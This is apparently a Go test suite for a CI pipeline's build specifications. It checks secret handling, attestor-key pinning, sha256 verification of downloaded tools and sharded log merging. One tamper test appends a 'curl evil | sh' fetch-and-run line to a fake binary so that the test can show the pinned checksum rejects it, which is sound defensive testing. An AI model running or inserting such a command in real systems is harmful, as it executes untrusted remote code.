package infra_test

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
)

var buildspecs = []string{"buildspec_build.yaml", "buildspec_verify.yaml", "buildspec_build_sharded.yaml"}

// testFingerprints stands for Terraform's TMSYNC_SRC_ATTESTOR_FINGERPRINT: two keys, as
// during a vendor key rotation.
const testFingerprints = "0123456789ABCDEF0123456789ABCDEF01234567,89ABCDEF0123456789ABCDEF0123456789ABCDEF"

func readBuild(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "build", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestBuildspecsStatic checks what must hold in every buildspec: the token comes from
// Secrets Manager and is never printed, and the old flags are passed.
func TestBuildspecsStatic(t *testing.T) {
	t.Parallel()
	tokenUse := regexp.MustCompile(`\$\{?TM_TOKEN`)
	for _, name := range buildspecs {
		s := readBuild(t, name)
		if !strings.Contains(s, "secrets-manager:\n    TM_TOKEN: tm-sync-token:TM_TOKEN") {
			t.Errorf("%s: no secrets-manager TM_TOKEN: tm-sync-token:TM_TOKEN", name)
		}
		if regexp.MustCompile(`(?m)^\s*(-\s*)?set\s+-[a-z]*x`).MatchString(s) {
			t.Errorf("%s: set -x would print the commands (and could print the token)", name)
		}
		if tokenUse.MatchString(s) {
			t.Errorf("%s: uses $TM_TOKEN on a command line or in an echo; tmsync reads it from the environment", name)
		}
		for _, flag := range []string{
			"--trgprefix=/3rdparty/tm/", `--trgregion="$AWS_REGION"`, "--src_packages_postfix=images.txt",
			"--src_release=release.json", `--trg_kms_key_alias="$ECR_KMS_ARN"`,
			"--throttle_ecr_creation_ms=1000", "--release-dir releases",
			// The bank's signing key, when Terraform set one (issue 19).
			`${TMSYNC_SIGN_KMS_KEY:+--sign-kms-key "$TMSYNC_SIGN_KMS_KEY"}`,
			// The vendor attestor key pinned by Terraform, not chosen by the release upload.
			`--src-attestor-fingerprint "$TMSYNC_SRC_ATTESTOR_FINGERPRINT"`,
			`if [ -z "${TMSYNC_SRC_ATTESTOR_FINGERPRINT:-}" ]; then`,
		} {
			if !strings.Contains(s, flag) {
				t.Errorf("%s: missing %s", name, flag)
			}
		}
	}
	// The sync stages keep the attestations they used, for offline and audit verify runs.
	if s := readBuild(t, "buildspec_build.yaml"); !strings.Contains(s, "--save-attestation-bundle attestations.json") ||
		!regexp.MustCompile(`(?m)^    - attestations\.json$`).MatchString(s) {
		t.Error("buildspec_build.yaml: no --save-attestation-bundle attestations.json, or not in the artifacts")
	}
	if s := readBuild(t, "buildspec_build_sharded.yaml"); !strings.Contains(s, `--save-attestation-bundle "attestations-$SHARD_INDEX.json"`) ||
		!regexp.MustCompile(`(?m)^    - attestations-\*\.json$`).MatchString(s) {
		t.Error("buildspec_build_sharded.yaml: no per-shard --save-attestation-bundle, or not in the artifacts")
	}
	if s := readBuild(t, "buildspec_build_sharded.yaml"); !strings.Contains(s, `--shard-index "$SHARD_INDEX" --shard-count "$SHARD_COUNT"`) ||
		!strings.Contains(s, "tmsync report merge --output sync-report.json") {
		t.Error("buildspec_build_sharded.yaml: shard flags or report merge missing")
	}
}

// buildspecCommand parses a buildspec with python3's yaml (no YAML module in go.mod) and
// returns its first build command; it skips when python3 or PyYAML is missing.
func buildspecCommand(t *testing.T, name string) string {
	t.Helper()
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 not installed: buildspec YAML not parsed")
	}
	script := `import sys, yaml
d = yaml.safe_load(open(sys.argv[1]))
assert d["version"] == 0.2, "version"
cmds = d["phases"]["build"]["commands"]
sys.stdout.write(cmds[0])`
	out, err := exec.Command(py, "-c", script, filepath.Join("..", "build", name)).CombinedOutput()
	if err != nil {
		if strings.Contains(string(out), "No module named 'yaml'") {
			t.Skip("PyYAML not installed: buildspec YAML not parsed")
		}
		t.Fatalf("%s: %v\n%s", name, err, out)
	}
	return string(out)
}

func TestBuildspecsParse(t *testing.T) {
	t.Parallel()
	for _, name := range buildspecs {
		if c := buildspecCommand(t, name); !strings.Contains(c, "./bin/tmsync") {
			t.Errorf("%s: build command does not run ./bin/tmsync", name)
		}
	}
}

func runScript(t *testing.T, dir string, env []string, script string, args ...string) (string, int) {
	t.Helper()
	cmd := exec.Command("bash", append([]string{"-c", script, "bash"}, args...)...) // $1.. = args
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	out, err := cmd.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); ok {
		return string(out), ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return string(out), 0
}

// TestGate checks the verify stage's decision (build/gate.sh).
func TestGate(t *testing.T) {
	t.Parallel()
	gate, _ := filepath.Abs("../build/gate.sh")
	cases := []struct {
		name          string
		sync, verify  *string
		verifyRC      string
		wantExit      int
		wantSubstring string
	}{
		{"clean", ptr(""), ptr(""), "0", 0, "GATE: PASS"},
		{"sync errors", ptr("ERROR: copy: vault/x:1: boom\n"), ptr(""), "0", 1, "is not empty"},
		{"sync log missing", nil, ptr(""), "0", 1, "is missing"},
		{"verify failed", ptr(""), ptr(""), "1", 1, "tmsync verify exited 1"},
		{"verify log", ptr(""), ptr("ERROR: verify: vault/x:1: missing\n"), "0", 1, "verify-error.log is not empty"},
	}
	for _, c := range cases {
		dir := t.TempDir()
		if c.sync != nil {
			os.WriteFile(filepath.Join(dir, "sync-error.log"), []byte(*c.sync), 0o644)
		}
		if c.verify != nil {
			os.WriteFile(filepath.Join(dir, "verify-error.log"), []byte(*c.verify), 0o644)
		}
		out, code := runScript(t, dir, nil, `"$@"`, gate, "sync-error.log", "verify-error.log", c.verifyRC)
		if code != c.wantExit || !strings.Contains(out, c.wantSubstring) {
			t.Errorf("%s: exit %d, output %q; want exit %d with %q", c.name, code, out, c.wantExit, c.wantSubstring)
		}
	}
}

func ptr(s string) *string { return &s }

// fakeTools puts an `aws` that maps s3://BUCKET/KEY to files under dir/s3/, and a
// bin/tmsync that records its arguments, into dir.
func fakeTools(t *testing.T, dir string) []string {
	t.Helper()
	bin := filepath.Join(dir, "fakebin")
	os.MkdirAll(bin, 0o755)
	os.MkdirAll(filepath.Join(dir, "bin"), 0o755)
	aws := `#!/usr/bin/env bash
# fake aws: only "s3 cp [--only-show-errors] SRC DST"
[ "$1 $2" = "s3 cp" ] || exit 3
shift 2; [ "$1" = --only-show-errors ] && shift
map() { case "$1" in s3://*) echo "` + dir + `/s3/${1#s3://}";; *) echo "$1";; esac; }
src=$(map "$1"); dst=$(map "$2")
[ -f "$src" ] || { echo "fatal error: (404) $1" >&2; exit 1; }
mkdir -p "$(dirname "$dst")"; cp "$src" "$dst"
`
	tmsync := `#!/usr/bin/env bash
echo "$*" >> tmsync-calls
if [ "$1 $2" = "report merge" ]; then shift 2; [ "$1" = --output ] && { out=$2; shift 2; }; cat "$@" > "$out"; fi
`
	os.WriteFile(filepath.Join(bin, "aws"), []byte(aws), 0o755)
	os.WriteFile(filepath.Join(dir, "bin", "tmsync"), []byte(tmsync), 0o755)
	return []string{"PATH=" + bin + ":" + os.Getenv("PATH")}
}

// TestShardedFanIn runs the fan-in of buildspec_build_sharded.yaml with fake aws and
// tmsync: the shard logs are concatenated, a missing shard is an error line, and the
// reports are merged with tmsync report merge.
func TestShardedFanIn(t *testing.T) {
	t.Parallel()
	script := buildspecCommand(t, "buildspec_build_sharded.yaml")
	dir := t.TempDir()
	env := fakeTools(t, dir)
	run := filepath.Join(dir, "s3", "bkt", "runs", "exec-1")
	os.MkdirAll(run, 0o755)
	os.WriteFile(filepath.Join(run, "sync-error-0.log"), []byte(""), 0o644)
	os.WriteFile(filepath.Join(run, "sync-error-1.log"), []byte("ERROR: copy: a:1: x\n"), 0o644)
	os.WriteFile(filepath.Join(run, "sync-error-3.log"), []byte("ERROR: copy: c:1: y\n"), 0o644)
	for _, i := range []string{"0", "1", "3"} {
		os.WriteFile(filepath.Join(run, "sync-report-"+i+".json"), []byte(`{"shard":`+i+"}\n"), 0o644)
	}
	env = append(env, "ROLE=fanin", "SHARD_COUNT=4", "ARTIFACTS_BUCKET=bkt", "PIPELINE_EXECUTION_ID=exec-1")
	out, code := runScript(t, dir, env, script)
	if code != 0 {
		t.Fatalf("fan-in: exit %d\n%s", code, out)
	}
	log, _ := os.ReadFile(filepath.Join(dir, "sync-error.log"))
	want := "ERROR: copy: a:1: x\nERROR: shard 2: no error log"
	if !strings.HasPrefix(string(log), want) || !strings.Contains(string(log), "ERROR: copy: c:1: y\n") {
		t.Errorf("merged sync-error.log:\n%s", log)
	}
	calls, _ := os.ReadFile(filepath.Join(dir, "tmsync-calls"))
	if strings.TrimSpace(string(calls)) != "report merge --output sync-report.json sync-report-0.json sync-report-1.json sync-report-3.json" {
		t.Errorf("tmsync calls: %q", calls)
	}
	for _, f := range []string{"sync-error.log", "sync-report.json", "runs/exec-1/sync-error.log"} {
		if _, err := os.Stat(filepath.Join(dir, "s3", "bkt", f)); err != nil {
			t.Errorf("fan-in did not upload %s: %v", f, err)
		}
	}
}

// TestShardRun runs one shard's command with a fake tmsync: it passes the shard flags
// and uploads its own log and report.
func TestShardRun(t *testing.T) {
	t.Parallel()
	script := buildspecCommand(t, "buildspec_build_sharded.yaml")
	dir := t.TempDir()
	env := append(fakeTools(t, dir), "ROLE=shard", "SHARD_INDEX=2", "SHARD_COUNT=4", "ARTIFACTS_BUCKET=bkt",
		"PIPELINE_EXECUTION_ID=exec-1", "AWS_REGION=eu-central-1", "ECR_KMS_ARN=arn:aws:kms:eu-central-1:1:key/k",
		"TMSYNC_SRC_ATTESTOR_FINGERPRINT="+testFingerprints)
	os.WriteFile(filepath.Join(dir, "sync-report-2.json"), []byte("{}"), 0o644)
	os.WriteFile(filepath.Join(dir, "attestations-2.json"), []byte("{}"), 0o644)
	out, code := runScript(t, dir, env, script)
	if code != 0 {
		t.Fatalf("shard: exit %d\n%s", code, out)
	}
	calls, _ := os.ReadFile(filepath.Join(dir, "tmsync-calls"))
	for _, want := range []string{"sync ", "--shard-index 2 --shard-count 4", "--error-log sync-error-2.log", "--report sync-report-2.json", "--trg_kms_key_alias=arn:aws:kms:eu-central-1:1:key/k",
		"--src-attestor-fingerprint " + testFingerprints, "--save-attestation-bundle attestations-2.json"} {
		if !strings.Contains(string(calls), want) {
			t.Errorf("tmsync called with %q, want %q in it", calls, want)
		}
	}
	for _, f := range []string{"sync-error-2.log", "attestations-2.json"} {
		if _, err := os.Stat(filepath.Join(dir, "s3", "bkt", "runs", "exec-1", f)); err != nil {
			t.Errorf("shard did not upload its %s: %v", f, err)
		}
	}
}

// TestSyncStageExitStatus: exit 1 of tmsync (some images failed) lets the sync stage pass
// so verify gates on the log; exit 2 fails it.
func TestSyncStageExitStatus(t *testing.T) {
	t.Parallel()
	script := buildspecCommand(t, "buildspec_build.yaml")
	// 130 and 143: tmsync stopped by SIGINT or SIGTERM (a stopped build, the timeout).
	for _, c := range []struct{ rc, want int }{{0, 0}, {1, 0}, {2, 2}, {130, 130}, {143, 143}} {
		dir := t.TempDir()
		env := fakeTools(t, dir)
		os.WriteFile(filepath.Join(dir, "bin", "tmsync"), []byte("#!/usr/bin/env bash\necho \"$*\" > tmsync-calls\nexit "+strconv.Itoa(c.rc)+"\n"), 0o755)
		out, code := runScript(t, dir, append(env, "AWS_REGION=eu-central-1", "ECR_KMS_ARN=k", "TMSYNC_SRC_ATTESTOR_FINGERPRINT="+testFingerprints), script)
		if code != c.want {
			t.Errorf("tmsync exit %d: stage exit %d, want %d\n%s", c.rc, code, c.want, out)
		}
		if _, err := os.Stat(filepath.Join(dir, "sync-error.log")); err != nil {
			t.Errorf("tmsync exit %d: sync-error.log not created", c.rc)
		}
	}
}

// TestVerifyStage runs the verify stage's command with fake aws and tmsync: it finds the
// sync log in the sync artifact (single build or sharded fanin/ layout) or the bucket, and
// gates on it and on tmsync verify.
func TestVerifyStage(t *testing.T) {
	t.Parallel()
	script := buildspecCommand(t, "buildspec_verify.yaml")
	cases := []struct {
		name     string
		layout   string // where sync-error.log is: "root", "fanin", "s3", "none"
		syncLog  string
		verifyRC int
		want     int
	}{
		{"clean", "root", "", 0, 0},
		{"sync errors", "root", "ERROR: copy: a:1: x\n", 0, 1},
		{"sharded clean", "fanin", "", 0, 0},
		{"sharded errors", "fanin", "ERROR: copy: a:1: x\n", 0, 1},
		{"from bucket", "s3", "", 0, 0},
		{"no log", "none", "", 0, 1},
		{"verify fails", "root", "", 1, 1},
	}
	for _, c := range cases {
		dir := t.TempDir()
		env := fakeTools(t, dir)
		os.MkdirAll(filepath.Join(dir, "build"), 0o755)
		for _, s := range []string{"gate.sh", "find-sync-log.sh"} {
			b, err := os.ReadFile(filepath.Join("..", "build", s))
			if err != nil {
				t.Fatal(err)
			}
			os.WriteFile(filepath.Join(dir, "build", s), b, 0o644) // no x bit: a zip may lose it
		}
		os.WriteFile(filepath.Join(dir, "bin", "tmsync"), []byte("#!/usr/bin/env bash\ntouch verify-error.log\nexit "+string(rune('0'+c.verifyRC))+"\n"), 0o755)
		syncDir := filepath.Join(dir, "syncart")
		switch c.layout {
		case "root":
			os.MkdirAll(syncDir, 0o755)
			os.WriteFile(filepath.Join(syncDir, "sync-error.log"), []byte(c.syncLog), 0o644)
		case "fanin":
			os.MkdirAll(filepath.Join(syncDir, "fanin"), 0o755)
			os.WriteFile(filepath.Join(syncDir, "fanin", "sync-error.log"), []byte(c.syncLog), 0o644)
		case "s3":
			os.MkdirAll(filepath.Join(dir, "s3", "bkt", "runs", "exec-1"), 0o755)
			os.WriteFile(filepath.Join(dir, "s3", "bkt", "runs", "exec-1", "sync-error.log"), []byte(c.syncLog), 0o644)
		}
		env = append(env, "CODEBUILD_SRC_DIR_sync="+syncDir, "ARTIFACTS_BUCKET=bkt", "PIPELINE_EXECUTION_ID=exec-1",
			"AWS_REGION=eu-central-1", "ECR_KMS_ARN=k", "TMSYNC_SRC_ATTESTOR_FINGERPRINT="+testFingerprints)
		out, code := runScript(t, dir, env, script)
		if code != c.want {
			t.Errorf("%s: exit %d, want %d\n%s", c.name, code, c.want, out)
		}
	}
}

// TestAttestorPinRequired: every stage that checks attestations (sync, verify, a shard)
// refuses to run tmsync when Terraform did not pin the vendor attestor key
// (TMSYNC_SRC_ATTESTOR_FINGERPRINT unset or empty): the key file comes with the release
// upload, so without the pin whoever uploads a release would choose the trust anchor. With
// the pin, tmsync gets it as --src-attestor-fingerprint, both fingerprints of a rotation.
// A sync stage stopped so writes its ERROR line into its error log and, after post_build
// (or the shard's own uploads), into the artifacts bucket's latest sync-error.log.
func TestAttestorPinRequired(t *testing.T) {
	t.Parallel()
	const pinError = "ERROR: TMSYNC_SRC_ATTESTOR_FINGERPRINT is not set"
	stages := []struct {
		spec string
		env  []string
		// errorLogs are the files (under the work folder; s3/bkt/... is the artifacts
		// bucket) that must hold the ERROR line when the pin is missing: the bucket's
		// latest sync-error.log must not stay the previous run's.
		errorLogs []string
	}{
		{"buildspec_build.yaml", nil, []string{"sync-error.log", "s3/bkt/sync-error.log", "s3/bkt/runs/exec-1/sync-error.log"}},
		{"buildspec_verify.yaml", nil, nil},
		{"buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=0", "SHARD_COUNT=4"},
			[]string{"sync-error-0.log", "s3/bkt/runs/exec-1/sync-error-0.log", "s3/bkt/runs/exec-1/sync-error.log", "s3/bkt/sync-error.log"}},
	}
	for _, st := range stages {
		script := buildspecCommand(t, st.spec)
		post := strings.Join(buildspecPhases(t, st.spec, "post_build"), "\n")
		for _, pin := range []*string{nil, ptr(""), ptr(testFingerprints)} {
			dir := t.TempDir()
			env := append(fakeTools(t, dir), "AWS_REGION=eu-central-1", "ECR_KMS_ARN=k", "ARTIFACTS_BUCKET=bkt",
				"PIPELINE_EXECUTION_ID=exec-1", "CODEBUILD_SRC_DIR_sync="+dir)
			env = append(env, st.env...)
			// runScript adds os.Environ(): the unset case unsets it in the script itself,
			// so that a value there cannot mask it.
			name, run := "unset", "unset TMSYNC_SRC_ATTESTOR_FINGERPRINT\n"+script
			if pin != nil {
				env = append(env, "TMSYNC_SRC_ATTESTOR_FINGERPRINT="+*pin)
				name, run = strconv.Quote(*pin), script
			}
			os.MkdirAll(filepath.Join(dir, "build"), 0o755)
			for _, s := range []string{"gate.sh", "find-sync-log.sh"} {
				b, _ := os.ReadFile(filepath.Join("..", "build", s))
				os.WriteFile(filepath.Join(dir, "build", s), b, 0o644)
			}
			if st.errorLogs == nil {
				os.WriteFile(filepath.Join(dir, "sync-error.log"), nil, 0o644) // the sync stage's, for verify
			}
			// The previous run's logs in the bucket: empty, "all good".
			os.MkdirAll(filepath.Join(dir, "s3", "bkt", "runs", "exec-0"), 0o755)
			os.WriteFile(filepath.Join(dir, "s3", "bkt", "sync-error.log"), nil, 0o644)
			os.WriteFile(filepath.Join(dir, "s3", "bkt", "runs", "exec-0", "sync-error.log"), nil, 0o644)
			out, code := runScript(t, dir, env, run)
			if post != "" {
				// CodeBuild runs post_build after a failed build phase too.
				o, _ := runScript(t, dir, env, post)
				out += o
			}
			calls, _ := os.ReadFile(filepath.Join(dir, "tmsync-calls"))
			if pin == nil || *pin == "" {
				if code != 2 || !strings.Contains(out, pinError) || len(calls) > 0 {
					t.Errorf("%s, pin %s: exit %d, tmsync calls %q, want exit 2, no call\n%s", st.spec, name, code, calls, out)
				}
				for _, f := range st.errorLogs {
					b, err := os.ReadFile(filepath.Join(dir, f))
					if lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n"); err != nil || len(lines) != 1 || !strings.HasPrefix(lines[0], pinError) {
						t.Errorf("%s, pin %s: %s holds %q (%v), want the one ERROR line of the missing pin\n%s", st.spec, name, f, b, err, out)
					}
				}
				continue
			}
			if !strings.Contains(string(calls), "--src-attestor-fingerprint "+testFingerprints) {
				t.Errorf("%s, pin %s: exit %d, tmsync calls %q, want the pin passed\n%s", st.spec, name, code, calls, out)
			}
		}
	}
}

// buildspecPhases returns the commands of the phases named of a buildspec, in that order;
// with none named, of the install, build and post_build phases.
func buildspecPhases(t *testing.T, name string, phases ...string) []string {
	t.Helper()
	buildspecCommand(t, name) // skips without python3/PyYAML
	if len(phases) == 0 {
		phases = []string{"install", "build", "post_build"}
	}
	script := `import sys, json, yaml
d = yaml.safe_load(open(sys.argv[1]))
out = []
for p in sys.argv[2:]:
    out += d["phases"].get(p, {}).get("commands", [])
json.dump(out, sys.stdout)`
	out, err := exec.Command("python3", append([]string{"-c", script, filepath.Join("..", "build", name)}, phases...)...).Output()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var cmds []string
	if err := json.Unmarshal(out, &cmds); err != nil {
		t.Fatal(err)
	}
	return cmds
}

// noGoPath makes a PATH of only the programs the buildspecs use plus the fake aws: no go,
// no make, no git, so a build that tried to compile tmsync or fetch modules would fail.
func noGoPath(t *testing.T, fakebin string) string {
	t.Helper()
	dir := t.TempDir()
	for _, p := range []string{"bash", "env", "sha256sum", "awk", "cut", "mkdir", "cp", "rm", "chmod", "cat", "wc", "touch", "seq", "head", "dirname", "tr", "grep"} {
		src, err := exec.LookPath(p)
		if err != nil {
			t.Fatalf("%s not on PATH", p)
		}
		if err := os.Symlink(src, filepath.Join(dir, p)); err != nil {
			t.Fatal(err)
		}
	}
	path := fakebin + ":" + dir
	for _, p := range []string{"go", "make", "gofmt", "git"} {
		cmd := exec.Command("bash", "-c", "command -v "+p)
		cmd.Env = []string{"PATH=" + path}
		if out, err := cmd.Output(); err == nil {
			t.Fatalf("%s is on the test PATH (%s)", p, out)
		}
	}
	return path
}

// TestBuildspecInstall runs every buildspec's install, build and post_build commands, in
// order, with a fake aws serving a fake S3 and no Go toolchain, make or git on PATH: the
// tools installed from S3 run when their sha256 is the pinned one; a tampered binary or
// script, or a pin list that leaves one out, is refused before anything runs.
func TestBuildspecInstall(t *testing.T) {
	t.Parallel()
	// A fake tmsync that records its arguments and writes the attestation bundle it is asked for.
	tmsync := []byte("#!/usr/bin/env bash\necho \"$*\" >> tmsync-calls\n[ \"$1\" = --version ] && echo 'tmsync version v9.9.9'\n" +
		"while [ $# -gt 0 ]; do [ \"$1\" = --save-attestation-bundle ] && echo '{}' > \"$2\"; shift; done\nexit 0\n")
	gate, err := os.ReadFile("../build/gate.sh")
	if err != nil {
		t.Fatal(err)
	}
	find, err := os.ReadFile("../build/find-sync-log.sh")
	if err != nil {
		t.Fatal(err)
	}
	goodSums := sha256Hex(tmsync) + "  bin/tmsync\n" + sha256Hex(find) + "  build/find-sync-log.sh\n" + sha256Hex(gate) + "  build/gate.sh"
	cases := []struct {
		name            string
		spec            string
		env             []string
		tamper          func(s3 string) // changes what is in the fake S3
		sums            string
		wantExit        int
		wantOut         string
		wantTmsyncCalls string // substring; "" = tmsync must never run
		wantUploads     []string
	}{
		{"sync", "buildspec_build.yaml", nil, nil, goodSums, 0, "sha256 checked", "sync --trgprefix=/3rdparty/tm/",
			[]string{"attestations.json", "runs/exec-1/attestations.json", "runs/exec-1/sync-error.log"}},
		{"verify", "buildspec_verify.yaml", nil, nil, goodSums, 0, "GATE: PASS", "verify --trgprefix=/3rdparty/tm/", nil},
		{"shard", "buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=1", "SHARD_COUNT=4"}, nil, goodSums, 0, "shard 1/4", "--shard-index 1 --shard-count 4",
			[]string{"runs/exec-1/attestations-1.json"}},
		{"fan-in", "buildspec_build_sharded.yaml", []string{"ROLE=fanin", "SHARD_COUNT=4"}, nil, goodSums, 0, "fan-in: sync-error.log has 4 line(s)", "--version", nil},
		{"tampered binary", "buildspec_build.yaml", nil, func(s3 string) {
			f, _ := os.OpenFile(filepath.Join(s3, "tools", "tmsync"), os.O_APPEND|os.O_WRONLY, 0)
			f.Write([]byte("curl evil | sh\n"))
			f.Close()
		}, goodSums, 1, "bin/tmsync has sha256", "", nil},
		{"binary replaced, same size", "buildspec_verify.yaml", nil, func(s3 string) {
			b := slices.Clone(tmsync)
			b[len(b)-2] = '1' // exit 1
			os.WriteFile(filepath.Join(s3, "tools", "tmsync"), b, 0o755)
		}, goodSums, 1, "refusing to run it", "", nil},
		{"tampered gate", "buildspec_verify.yaml", nil, func(s3 string) {
			os.WriteFile(filepath.Join(s3, "tools", "scripts", "gate.sh"), []byte("#!/usr/bin/env bash\nexit 0\n"), 0o755)
		}, goodSums, 1, "build/gate.sh has sha256", "", nil},
		{"pin list without the binary", "buildspec_build.yaml", nil, nil, sha256Hex(find) + "  build/find-sync-log.sh\n" + sha256Hex(gate) + "  build/gate.sh", 1, "wants nothing", "", nil},
		{"binary-mode spelling is no pin", "buildspec_build.yaml", nil, nil, strings.Replace(goodSums, "  bin/tmsync", " *bin/tmsync", 1), 1, "wants nothing", "", nil},
		{"no pins at all", "buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=0", "SHARD_COUNT=4"}, nil, "", 1, "refusing", "", nil},
		{"binary missing in S3", "buildspec_build.yaml", nil, func(s3 string) { os.Remove(filepath.Join(s3, "tools", "tmsync")) }, goodSums, 1, "(404)", "", nil},
	}
	for _, c := range cases {
		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			fakeTools(t, dir)
			os.Remove(filepath.Join(dir, "bin", "tmsync")) // only what the install puts there
			s3 := filepath.Join(dir, "s3", "bkt")
			os.MkdirAll(filepath.Join(s3, "tools", "scripts"), 0o755)
			os.WriteFile(filepath.Join(s3, "tools", "tmsync"), tmsync, 0o644)
			os.WriteFile(filepath.Join(s3, "tools", "scripts", "gate.sh"), gate, 0o644)
			os.WriteFile(filepath.Join(s3, "tools", "scripts", "find-sync-log.sh"), find, 0o644)
			// The sync stage's empty error log, for verify; empty shard logs, for the fan-in.
			os.MkdirAll(filepath.Join(dir, "syncart"), 0o755)
			os.WriteFile(filepath.Join(dir, "syncart", "sync-error.log"), nil, 0o644)
			if c.tamper != nil {
				c.tamper(s3)
			}
			env := []string{
				"PATH=" + noGoPath(t, filepath.Join(dir, "fakebin")), "HOME=" + dir,
				"TMSYNC_S3_URI=s3://bkt/tools/tmsync", "TOOLS_S3_PREFIX=s3://bkt/tools/scripts",
				"TOOLS_SHA256SUMS=" + c.sums, "ARTIFACTS_BUCKET=bkt", "PIPELINE_EXECUTION_ID=exec-1",
				"AWS_REGION=eu-central-1", "ECR_KMS_ARN=k", "CODEBUILD_SRC_DIR_sync=" + filepath.Join(dir, "syncart"),
				"TMSYNC_SRC_ATTESTOR_FINGERPRINT=" + testFingerprints,
			}
			env = append(env, c.env...)
			var out strings.Builder
			code := 0
			for i, cmdText := range buildspecPhases(t, c.spec) {
				cmd := exec.Command("/bin/bash", "-c", cmdText)
				cmd.Dir, cmd.Env = dir, env
				b, err := cmd.CombinedOutput()
				out.Write(b)
				if ee, ok := err.(*exec.ExitError); ok {
					code = ee.ExitCode()
					if i == 0 {
						break // CodeBuild stops at a failed install phase
					}
				} else if err != nil {
					t.Fatal(err)
				}
			}
			if code != c.wantExit || !strings.Contains(out.String(), c.wantOut) {
				t.Errorf("exit %d, want %d with %q in\n%s", code, c.wantExit, c.wantOut, out.String())
			}
			calls, _ := os.ReadFile(filepath.Join(dir, "tmsync-calls"))
			if c.wantTmsyncCalls == "" {
				if len(calls) > 0 {
					t.Errorf("refused install, yet tmsync ran: %q", calls)
				}
				if _, err := os.Stat(filepath.Join(dir, "bin", "tmsync")); err == nil && c.wantExit != 0 && strings.Contains(c.wantOut, "tmsync") {
					t.Error("refused binary left in bin/")
				}
			} else if !strings.Contains(string(calls), c.wantTmsyncCalls) {
				t.Errorf("tmsync calls %q, want %q in them", calls, c.wantTmsyncCalls)
			}
			for _, f := range c.wantUploads {
				if _, err := os.Stat(filepath.Join(s3, f)); err != nil {
					t.Errorf("not uploaded to s3://bkt/%s: %v", f, err)
				}
			}
		})
	}
}

// TestBuildspecsInstallSame: the three buildspecs install tmsync the same way, none
// compiles it or names a Go toolchain outside the opt-in source path.
func TestBuildspecsInstallSame(t *testing.T) {
	t.Parallel()
	var first string
	for _, name := range buildspecs {
		s := readBuild(t, name)
		i, j := strings.Index(s, "  install:\n"), strings.Index(s, "  build:\n")
		if i < 0 || j < i {
			t.Fatalf("%s: no install phase before build", name)
		}
		inst := s[i:j]
		if first == "" {
			first = inst
		} else if inst != first {
			t.Errorf("%s: install phase differs from %s's", name, buildspecs[0])
		}
		if strings.Count(s, "make build") != 1 || !strings.Contains(inst, `if [ "${TMSYNC_INSTALL:-artifact}" = source ]; then
          make build`) {
			t.Errorf("%s: make build outside the opt-in source path", name)
		}
		for _, bad := range []string{"GOTOOLCHAIN", "runtime-versions", "golang:", "go install", "go build", "go mod"} {
			if strings.Contains(s, bad) {
				t.Errorf("%s: mentions %s", name, bad)
			}
		}
	}
}

// TestPipelineGatesExcerpts: the buildspec excerpts quoted in docs/pipeline-gates.md (each
// fenced block after an `<!-- excerpt: FILE -->` line) are lines of FILE, in order and
// together (blank and comment lines aside, indentation ignored). The page once quoted a
// buildspec that was not the shipped one.
func TestPipelineGatesExcerpts(t *testing.T) {
	t.Parallel()
	doc, err := os.ReadFile(filepath.Join("..", "docs", "pipeline-gates.md"))
	if err != nil {
		t.Fatal(err)
	}
	significant := func(text string) []string {
		var out []string
		for _, l := range strings.Split(text, "\n") {
			l = strings.TrimSpace(l)
			if l != "" && !strings.HasPrefix(l, "#") {
				out = append(out, l)
			}
		}
		return out
	}
	re := regexp.MustCompile("(?s)<!-- excerpt: ([^ ]+) -->\n```[a-z]*\n(.*?)\n```")
	found := re.FindAllStringSubmatch(string(doc), -1)
	if len(found) < 3 {
		t.Fatalf("docs/pipeline-gates.md: %d excerpts, want the sync command, its artifacts and the verify command", len(found))
	}
	for _, m := range found {
		src, err := os.ReadFile(filepath.Join("..", m[1]))
		if err != nil {
			t.Errorf("excerpt of %s: %v", m[1], err)
			continue
		}
		want, have := significant(m[2]), significant(string(src))
		ok := false
		for i := 0; i+len(want) <= len(have) && !ok; i++ {
			ok = slices.Equal(have[i:i+len(want)], want)
		}
		if !ok {
			t.Errorf("docs/pipeline-gates.md quotes %s, but these lines are not in it together:\n%s", m[1], m[2])
		}
	}
}
